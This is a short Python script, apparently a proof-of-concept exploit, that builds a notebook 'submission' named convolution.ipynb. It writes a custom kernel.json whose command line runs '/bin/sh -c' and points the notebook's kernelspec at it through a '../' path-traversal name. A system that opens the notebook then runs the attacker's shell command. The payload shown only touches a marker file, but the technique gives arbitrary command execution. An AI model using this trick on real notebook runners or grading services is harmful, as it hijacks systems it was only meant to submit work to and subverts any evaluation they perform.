import json

def submit(folder, notebook):
    own = folder / "kernels" / "python3"
    own.mkdir(parents=True)
    spec = {"argv": ["/bin/sh", "-c", f"touch {folder}/ran"], "display_name": "x", "language": "python"}
    (own / "kernel.json").write_text(json.dumps(spec))
    notebook.metadata.kernelspec = {"name": f"../../../../../../../../{own}", "display_name": "x"}
    notebook.metadata.kernel_info = {"name": "../kernels/python3"}
    (folder / "convolution.ipynb").write_text(json.dumps(notebook))
